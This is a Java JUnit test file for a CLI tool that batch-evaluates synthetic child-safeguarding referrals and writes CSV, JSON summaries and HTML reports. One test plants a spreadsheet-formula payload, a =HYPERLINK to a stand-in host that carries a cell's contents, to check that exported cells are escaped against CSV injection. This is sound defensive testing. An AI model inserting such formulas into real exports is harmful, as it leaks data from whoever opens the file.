package io.thresholds.examples;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import io.thresholds.core.evaluation.ChildAssessment;
import io.thresholds.core.evaluation.Evaluation;
import io.thresholds.core.evaluation.ThresholdEvaluator;
import io.thresholds.core.model.Referral;
import io.thresholds.core.policy.Policies;
import io.thresholds.core.policy.Policy;
import io.thresholds.jackson.ThresholdsJson;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Pattern;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * {@code batch --format csv}, {@code --summary-json} and {@code --report} on a generated batch with
 * a few bad lines: the table agrees with the evaluations, the summary with the table, the page with
 * the summary.
 */
class BatchResearchTest {
  private static final Policy POLICY = Policies.cityOfLondon();
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final int REFERRALS = 600;

  @TempDir static Path dir;
  static Path in;
  static Path csv;
  static Path summary;
  static Path report;
  static Cli result;
  static List<String> inputLines;
  static List<Map<String, String>> rows;
  static JsonNode summaryJson;

  @BeforeAll
  static void runBatch() throws Exception {
    in = dir.resolve("referrals.jsonl");
    assertThat(Cli.run("generate", String.valueOf(REFERRALS), "--seed", "11", "--out", in.toString()).exit).isZero();
    inputLines = new ArrayList<>(Files.readAllLines(in, StandardCharsets.UTF_8));
    inputLines.set(9, "{\"format\":\"thresholds/referral@1\",");                 // line 10: malformed
    inputLines.set(19, inputLines.get(19).replaceFirst("\"indicator\":\"T[0-9]-[A-Z0-9-]+\"",
        "\"indicator\":\"T2-NOT-AN-INDICATOR\""));                                   // line 20: unknown code
    Files.write(in, inputLines, StandardCharsets.UTF_8);
    csv = dir.resolve("results.csv");
    summary = dir.resolve("summary.json");
    report = dir.resolve("report.html");
    result = Cli.run("batch", in.toString(), "--format", "csv", "--out", csv.toString(),
        "--summary-json", summary.toString(), "--report", report.toString(), "--progress", "none");
    rows = readCsv(csv);
    summaryJson = JSON.readTree(summary.toFile());
  }

  /** Reads the CSV with its header into maps, with Jackson's CSV parser in strict RFC 4180 mode. */
  static List<Map<String, String>> readCsv(Path file) throws Exception {
    CsvMapper mapper = CsvMapper.builder().enable(CsvParser.Feature.FAIL_ON_MISSING_COLUMNS)
        .enable(CsvParser.Feature.FAIL_ON_MISSING_HEADER_COLUMNS).build();
    List<Map<String, String>> out = new ArrayList<>();
    try (MappingIterator<Map<String, String>> it = mapper.readerForMapOf(String.class)
        .with(CsvSchema.emptySchema().withHeader().withStrictHeaders(true)).readValues(file.toFile())) {
      while (it.hasNext()) {
        out.add(it.next());
      }
    }
    return out;
  }

  /**
   * Determinism of the parallel batch: the table and the summary are byte for byte the same with
   * one worker thread or several, on a generated batch of several parts (of {@link
   * BatchCommand#PART_LINES} lines) with bad lines among them.
   */
  @Test
  void csvAndSummary_areTheSame_withOneThreadOrSeveral() throws Exception {
    Path many = dir.resolve("many.jsonl");
    assertThat(Cli.run("generate", String.valueOf(3 * BatchCommand.PART_LINES + 500), "--seed", "23",
        "--out", many.toString()).exit).isZero();
    List<String> lines = new ArrayList<>(Files.readAllLines(many, StandardCharsets.UTF_8));
    lines.set(1200, "not json");
    lines.set(2500, lines.get(2500).replaceFirst("\"indicator\":\"T[0-9]-[A-Z0-9-]+\"",
        "\"indicator\":\"T2-NOT-AN-INDICATOR\""));
    Files.write(many, lines, StandardCharsets.UTF_8);
    byte[] firstCsv = null;
    byte[] firstSummary = null;
    String firstOut = null;
    for (String threads : List.of("1", "2", "4")) {
      Path table = dir.resolve("threads-" + threads + ".csv");
      Path data = dir.resolve("threads-" + threads + ".json");
      Cli r = Cli.run("batch", many.toString(), "--format", "csv", "--out", table.toString(),
          "--summary-json", data.toString(), "--threads", threads, "--progress", "none");
      assertThat(r.exit).as(r.toString()).isEqualTo(1); // the two bad lines
      String out = r.out.replaceAll("Took .*", "");
      if (firstCsv == null) {
        firstCsv = Files.readAllBytes(table);
        firstSummary = Files.readAllBytes(data);
        firstOut = out;
        assertThat(new String(firstCsv, StandardCharsets.UTF_8)).contains("\r\n1201,,").contains("\r\n2501,");
      } else {
        assertThat(Files.readAllBytes(table)).as("CSV with %s threads", threads).isEqualTo(firstCsv);
        assertThat(Files.readAllBytes(data)).as("summary with %s threads", threads).isEqualTo(firstSummary);
        assertThat(out).isEqualTo(firstOut);
      }
    }
  }

  @Test
  void csv_headerIsTheDocumentedColumns_andLinesEndCrlf() throws Exception {
    String text = Files.readString(csv, StandardCharsets.UTF_8);
    String header = text.substring(0, text.indexOf("\r\n"));
    List<String> columns = new ArrayList<>();
    for (CsvRows.Column c : CsvRows.Column.values()) {
      columns.add(c.header);
    }
    assertThat(header).isEqualTo(String.join(",", columns));
    assertThat(text.replace("\r\n", "")).doesNotContain("\n");
    assertThat(rows).allSatisfy(r -> assertThat(r.keySet()).containsExactlyElementsOf(columns));
  }

  @Test
  void csv_oneRowPerReferredChild_andOnePerErrorLine_inInputOrder() throws Exception {
    long children = 0;
    for (int i = 0; i < inputLines.size(); i++) {
      if (i == 9 || i == 19) {
        continue;
      }
      children += ThresholdsJson.readReferral(inputLines.get(i)).referredChildren().size();
    }
    assertThat(rows).hasSize((int) children + 2);
    long previous = 0;
    for (Map<String, String> r : rows) {
      long line = Long.parseLong(r.get("line"));
      assertThat(line).isGreaterThanOrEqualTo(previous);
      previous = line;
    }
    Map<String, String> malformed = rows.stream().filter(r -> r.get("line").equals("10")).findFirst().orElseThrow();
    assertThat(malformed.get("error_kind")).isEqualTo("malformed-json");
    assertThat(malformed.get("tier_min")).isEmpty();
    Map<String, String> unknown = rows.stream().filter(r -> r.get("line").equals("20")).findFirst().orElseThrow();
    assertThat(unknown.get("error_kind")).isEqualTo("unknown-indicator");
    // Where the record locates the error, so does the row: the path of the code and its column.
    assertThat(unknown.get("error_path")).matches("concerns\\[\\d+\\]\\.indicator");
    assertThat(Integer.parseInt(unknown.get("error_column")))
        .isEqualTo(inputLines.get(19).indexOf("\"indicator\":\"") + "\"indicator\":".length() + 1); // at its quote
    assertThat(malformed.get("error_path")).isEmpty();
    assertThat(Integer.parseInt(malformed.get("error_column"))).isPositive();
    assertThat(result.exit).isEqualTo(ThresholdsCommand.INVALID_INPUT);
  }

  @Test
  void csv_rowsAgreeWithTheEvaluations() throws Exception {
    ThresholdEvaluator evaluator = ThresholdEvaluator.of(POLICY);
    Map<String, Map<String, String>> byChild = new HashMap<>();
    for (Map<String, String> r : rows) {
      byChild.put(r.get("line") + "/" + r.get("child_ref"), r);
    }
    int checked = 0;
    for (int i = 0; i < inputLines.size(); i += 7) {
      if (i == 9 || i == 19) {
        continue;
      }
      Referral referral = ThresholdsJson.readReferral(inputLines.get(i));
      Evaluation e = evaluator.evaluate(referral, referral.madeAt());
      for (ChildAssessment a : e.children()) {
        Map<String, String> r = byChild.get((i + 1) + "/" + a.child().value());
        assertThat(r).as("line " + (i + 1)).isNotNull();
        assertThat(r.get("referral_ref")).isEqualTo(referral.ref().value());
        assertThat(r.get("tier_min")).isEqualTo(a.tierRange().map(t -> String.valueOf(t.min().number())).orElse(""));
        assertThat(r.get("tier_max")).isEqualTo(a.tierRange().map(t -> String.valueOf(t.max().number())).orElse(""));
        assertThat(r.get("driving_indicators").isEmpty() ? Set.of() : Set.of(r.get("driving_indicators").split(";")))
            .isEqualTo(a.drivingIndicators().stream().map(c -> c.value()).collect(java.util.stream.Collectors.toSet()));
        var child = referral.household().child(a.child()).orElseThrow();
        String years = child.approximateAge().map(x -> String.valueOf(x.years()))
            .orElse(a.age().unborn() || child.ageUnknown() ? "" : String.valueOf(a.age().years()));
        assertThat(r.get("age_years")).as("approximate: the referral's estimate; unknown: empty").isEqualTo(years);
        assertThat(r.get("age_basis")).isEqualTo(ChildRow.wire(a.ageBasis()));
        assertThat(r.get("provisional")).isEqualTo(String.valueOf(a.provisional()
            || a.widenedBy().contains(io.thresholds.core.evaluation.Widening.UNKNOWN_FACT)
            || a.reasons().stream().anyMatch(x -> x.kind() == io.thresholds.core.evaluation.ReasonKind.POSSIBLE_ESCALATION)));
        assertThat(r.get("open_facts").isEmpty() ? Set.of() : Set.of(r.get("open_facts").split(";")))
            .isEqualTo(a.openFacts().stream().map(ChildRow::wire).collect(java.util.stream.Collectors.toSet()));
        assertThat(r.get("disability_unknown")).isEqualTo(String.valueOf(child.disabilityUnknown()));
        if (a.ageBasis() == io.thresholds.core.evaluation.AgeBasis.UNKNOWN) {
          assertThat(r.get("age_band")).isEqualTo("unknown");
        }
        assertThat(r.get("call_999")).isEqualTo(String.valueOf(
            a.actions().stream().anyMatch(x -> x.kind() == io.thresholds.core.policy.ActionKind.CALL_EMERGENCY_SERVICES)));
        assertThat(r.get("agency_type")).isEqualTo(ChildRow.wire(referral.referrer().agencyType()));
        checked++;
      }
    }
    assertThat(checked).isGreaterThan(50);
  }

  @Test
  void csv_carriesTheCensusCodesOfTheDrivingIndicators() {
    var census = POLICY.census().orElseThrow();
    int withCodes = 0;
    for (Map<String, String> r : rows) {
      if (r.get("driving_indicators").isEmpty()) {
        assertThat(r.get("census_factors")).isEmpty();
        continue;
      }
      Set<String> candidates = new TreeSet<>();
      for (String code : r.get("driving_indicators").split(";")) {
        census.mapping(io.thresholds.core.model.IndicatorCode.of(code)).ifPresent(m -> candidates.addAll(m.factors()));
      }
      if (!r.get("census_factors").isEmpty()) {
        withCodes++;
        assertThat(candidates).containsAll(List.of(r.get("census_factors").split(";")));
      }
      if (!r.get("cp_categories").isEmpty()) {
        assertThat(r.get("tier_max")).isEqualTo("4");
      }
    }
    assertThat(withCodes).isGreaterThan(100);
  }

  /**
   * Researchers open the table in a spreadsheet: no cell starts as a formula (OWASP "CSV
   * injection"), neither a reference starting with '-' nor the version of a policy of someone
   * else's, which is any text.
   */
  @Test
  void csv_noCellStartsAsASpreadsheetFormula_aReferenceOrAPolicysVersion() throws Exception {
    Path policyFile = dir.resolve("formula-policy.json");
    assertThat(Cli.run("policy", "export", "--out", policyFile.toString()).exit).isZero();
    com.fasterxml.jackson.databind.node.ObjectNode policy =
        (com.fasterxml.jackson.databind.node.ObjectNode) JSON.readTree(policyFile.toFile());
    String version = "=HYPERLINK(\"http://example.invalid/?\"&B2,\"open\")";
    policy.put("version", version);
    JSON.writeValue(policyFile.toFile(), policy);
    Path input = dir.resolve("formula.jsonl");
    String referral = inputLines.get(0).replaceFirst("\"ref\":\"[^\"]+\"", "\"ref\":\"-A1\"");
    assertThat(referral).contains("\"ref\":\"-A1\"");
    Files.write(input, List.of(referral, "not json"), StandardCharsets.UTF_8);
    Path table = dir.resolve("formula.csv");
    Cli r = Cli.run("batch", input.toString(), "--policy", policyFile.toString(), "--format", "csv",
        "--out", table.toString(), "--progress", "none");
    assertThat(r.exit).as(r.toString()).isEqualTo(1);
    List<Map<String, String>> formulaRows = readCsv(table);
    assertThat(formulaRows).hasSizeGreaterThanOrEqualTo(2);
    for (Map<String, String> row : formulaRows) {
      for (Map.Entry<String, String> cell : row.entrySet()) {
        assertThat(cell.getValue()).as(cell.getKey()).doesNotStartWith("=").doesNotStartWith("+")
            .doesNotStartWith("-").doesNotStartWith("@");
      }
    }
    Map<String, String> child = formulaRows.get(0);
    assertThat(child.get("referral_ref")).isEqualTo("'-A1");
    assertThat(child.get("policy_version")).isEqualTo("'" + version);
  }

  /** No date (a date of birth would be one) and no name-like free text in any cell. */
  @Test
  void csv_holdsNoDates_andOnlyCodesRefsNumbersAndBooleans() {
    Pattern date = Pattern.compile("\\d{4}-\\d{2}-\\d{2}");
    Pattern safe = Pattern.compile("[A-Za-z0-9._;-]*");
    // A JSON path: property names of the format, indices and valid refs; an unknown name is masked.
    Pattern path = Pattern.compile("([A-Za-z0-9._\\[\\]-]|<unknown field>)*");
    for (Map<String, String> r : rows) {
      for (Map.Entry<String, String> cell : r.entrySet()) {
        assertThat(date.matcher(cell.getValue()).find()).as(cell.getKey()).isFalse();
        assertThat(cell.getValue()).as(cell.getKey()).matches(cell.getKey().equals("error_path") ? path : safe);
      }
    }
  }

  @Test
  void csv_quotingFollowsRfc4180() throws Exception {
    ChildRow row = new ChildRow();
    row.line = 1;
    row.referral = "a,b";
    row.child = "say \"hi\"";
    row.agencyType = "two\r\nlines";
    String text;
    try (CsvRows.Sink sink = new CsvRows.Sink()) {
      sink.row(row);
      text = sink.text();
    }
    assertThat(text).startsWith("1,\"a,b\",\"say \"\"hi\"\"\",");
    assertThat(text).contains(",\"two\r\nlines\",");
    Path file = dir.resolve("quoted.csv");
    Files.writeString(file, CsvRows.header() + text, StandardCharsets.UTF_8);
    Map<String, String> read = readCsv(file).get(0);
    assertThat(read.get("referral_ref")).isEqualTo("a,b");
    assertThat(read.get("child_ref")).isEqualTo("say \"hi\"");
    assertThat(read.get("agency_type")).isEqualTo("two\r\nlines");
  }

  @Test
  void summaryJson_breakdownsAgreeWithTheTable() {
    assertThat(summaryJson.get("format").asText()).isEqualTo("thresholds/batch-summary@1");
    assertThat(summaryJson.get("lines").asLong()).isEqualTo(REFERRALS);
    assertThat(summaryJson.get("errors").asLong()).isEqualTo(2);
    assertThat(summaryJson.at("/errorsByKind/malformed-json").asLong()).isEqualTo(1);
    assertThat(summaryJson.at("/errorsByKind/unknown-indicator").asLong()).isEqualTo(1);
    List<Map<String, String>> children = rows.stream().filter(r -> r.get("error_kind").isEmpty()).toList();
    assertThat(summaryJson.get("children").asLong()).isEqualTo(children.size());
    for (String[] b : new String[][] {{"tierByAgeBand", "age_band"}, {"tierByAgencyType", "agency_type"},
        {"tierByTimeClass", "time_class"}}) {
      Map<String, Long> fromTable = new HashMap<>();
      for (Map<String, String> r : children) {
        String tier = r.get("tier_min").isEmpty() ? "out-of-scope" : r.get("tier_min");
        fromTable.merge(r.get(b[1]) + "/" + tier, 1L, Long::sum);
      }
      Map<String, Long> fromSummary = new HashMap<>();
      summaryJson.get(b[0]).properties().forEach(g -> g.getValue().properties().forEach(t -> {
        if (t.getValue().asLong() > 0) {
          fromSummary.put(g.getKey() + "/" + t.getKey(), t.getValue().asLong());
        }
      }));
      assertThat(fromSummary).as(b[0]).isEqualTo(fromTable);
    }
    long mace = children.stream().filter(r -> r.get("pathway_mace").equals("true")).count();
    assertThat(summaryJson.at("/pathways/mace-referral/children").asLong()).isEqualTo(mace);
    long maceReferrals = children.stream().filter(r -> r.get("pathway_mace").equals("true"))
        .map(r -> r.get("referral_ref")).distinct().count();
    assertThat(summaryJson.at("/pathways/mace-referral/referrals").asLong()).isEqualTo(maceReferrals);
    assertThat(summaryJson.at("/pathways/mace-referral/referralRate").asDouble())
        .isCloseTo((double) maceReferrals / summaryJson.get("referrals").asLong(), org.assertj.core.data.Offset.offset(1e-4));
    assertThat(summaryJson.at("/policy/censusCodeList").asText()).isEqualTo("2024 to 2025");
  }

  @Test
  void summaryJson_timeClasses_coverEveryKindOfTime() {
    for (String c : ChildRow.TIME_CLASSES) {
      long n = 0;
      for (JsonNode v : summaryJson.at("/tierByTimeClass/" + c)) {
        n += v.asLong();
      }
      assertThat(n).as(c).isPositive();
    }
  }

  @Test
  void report_isSelfContained_andChartsMatchTheSummary() throws Exception {
    Document page = Jsoup.parse(report.toFile(), "UTF-8");
    assertThat(page.select("script[src], link, img, iframe, object, embed")).isEmpty();
    assertThat(page.html()).doesNotContain("http://www.example").doesNotContainPattern("(src|href)=\"https?:");
    assertThat(page.select("style").text()).doesNotContain("@import").doesNotContain("url(");
    assertThat(page.title()).isEqualTo("Thresholds batch summary");
    assertThat(page.select("p.advisory").text()).contains("not a decision");
    for (String id : List.of("chart-tiers", "chart-age-band", "chart-agency-type", "chart-time-class",
        "chart-pathways", "chart-errors", "chart-census")) {
      Element figure = page.getElementById(id);
      assertThat(figure).as(id).isNotNull();
      assertThat(figure.select("svg rect.bar")).as(id).isNotEmpty();
      assertThat(figure.select("table.data tbody tr")).as(id).isNotEmpty();
    }
    assertThat(sumOfBars(page, "chart-age-band")).isEqualTo(summaryJson.get("children").asLong());
    assertThat(sumOfBars(page, "chart-agency-type")).isEqualTo(summaryJson.get("children").asLong());
    assertThat(sumOfBars(page, "chart-time-class")).isEqualTo(summaryJson.get("children").asLong());
    for (String group : List.of("unborn", "1-4", "10-15")) {
      for (String tier : BatchSummary.TIER_COLUMNS) {
        long bar = page.select("#chart-age-band rect.bar[data-group=" + group + "][data-tier=" + tier + "]").stream()
            .mapToLong(r -> Long.parseLong(r.attr("data-count"))).sum();
        assertThat(bar).as(group + " " + tier).isEqualTo(summaryJson.at("/tierByAgeBand/" + group + "/" + tier).asLong());
      }
    }
    assertThat(sumOfBars(page, "chart-errors")).isEqualTo(2);
    assertThat(page.text()).doesNotContain("syn-11-"); // no referral or child reference on the page
  }

  private static long sumOfBars(Document page, String id) {
    return page.select("#" + id + " rect.bar").stream().mapToLong(r -> Long.parseLong(r.attr("data-count"))).sum();
  }

  @Test
  void jsonlStaysTheDefault() throws Exception {
    Path out = dir.resolve("default.jsonl");
    Cli r = Cli.run("batch", in.toString(), "--out", out.toString(), "--progress", "none");
    assertThat(r.exit).isEqualTo(ThresholdsCommand.INVALID_INPUT);
    List<String> lines = Files.readAllLines(out, StandardCharsets.UTF_8);
    assertThat(lines).hasSize(REFERRALS);
    assertThat(JSON.readTree(lines.get(0)).get("format").asText()).isEqualTo("thresholds/evaluation@1");
    assertThat(JSON.readTree(lines.get(9)).get("format").asText()).isEqualTo("thresholds/batch-error@1");
  }

  @Test
  void unknownFormat_isAUsageError() {
    Cli r = Cli.run("batch", in.toString(), "--format", "xlsx", "--progress", "none");
    assertThat(r.exit).isEqualTo(2);
    assertThat(r.err).contains("'xlsx' is not one of jsonl, csv");
  }

  @Test
  void columnsMd_documentsEveryColumn_andNoOther() throws Exception {
    String doc = Files.readString(Path.of("COLUMNS.md"), StandardCharsets.UTF_8);
    List<String> documented = new ArrayList<>();
    for (String line : doc.split("\n")) {
      var m = Pattern.compile("^\\| `([a-z0-9_]+)` \\|").matcher(line);
      if (m.find()) {
        documented.add(m.group(1));
      }
    }
    List<String> columns = new ArrayList<>();
    for (CsvRows.Column c : CsvRows.Column.values()) {
      columns.add(c.header);
    }
    assertThat(documented).containsExactlyElementsOf(columns);
  }
}
